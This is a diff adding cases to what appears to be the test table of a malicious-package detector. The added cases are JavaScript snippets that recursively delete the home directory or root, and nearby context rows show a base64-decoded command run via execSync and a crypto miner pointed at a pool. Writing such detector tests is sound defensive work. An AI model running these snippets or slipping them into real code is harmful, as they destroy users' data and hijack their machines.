@@ -92,6 +92,13 @@ innocent(42, "a URL that nothing fetches", "exports.docs = 'https://widget.examp
 fires(10, "a decoded command is run", "require('child_process').execSync(Buffer.from('%s', 'base64').toString());\n" % encoded("id; uname -a; cat /etc/hostname"))
 innocent(10, "a command of the user's", "exports.sh = (c) => require('child_process').execSync(c).toString();\n")
 
+fires(45, "a home is removed", "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });\n")
+fires(45, "one of several places that are removed is the root", "['/', process.env.HOME].forEach((d) => require('fs').rm(d, { recursive: true }, () => {}));\n")
+fires(45, "a command removes a home", "require('child_process').exec('cd /tmp; rm -rf ~/* ~/.[!.]*');\n")
+innocent(45, "a folder of the tool's own is removed", "exports.clean = () => require('fs').rmSync(require('os').homedir() + '/.cache/sample-tool', { recursive: true, force: true });\n")
+innocent(45, "a command removes what a build left", "exports.clean = () => require('child_process').execSync('rm -rf ./dist /tmp/sample-tool/*');\n")
+innocent(45, "a message warns of it", "exports.warn = 'Never run rm -rf / on a machine of yours';\n")
+
 fires(57, "a program works for a wallet", "require('child_process').spawn('./svc', ['-o', 'stratum+tcp://pool.widget.example:3333', '-u', '0x52908400098527886E0F7030069857D2E4169EE7']);\n")
 row(57, False, "a donation address in the readme", {"README.md": "# sample-tool\n\nDonate: 0x52908400098527886E0F7030069857D2E4169EE7\n"})
 row(57, False, "a pool's protocol that was there before", {"index.js": MAIN + "exports.pool = 'stratum+tcp://pool.widget.example:3333';\nexports.limit = 3;\n"},
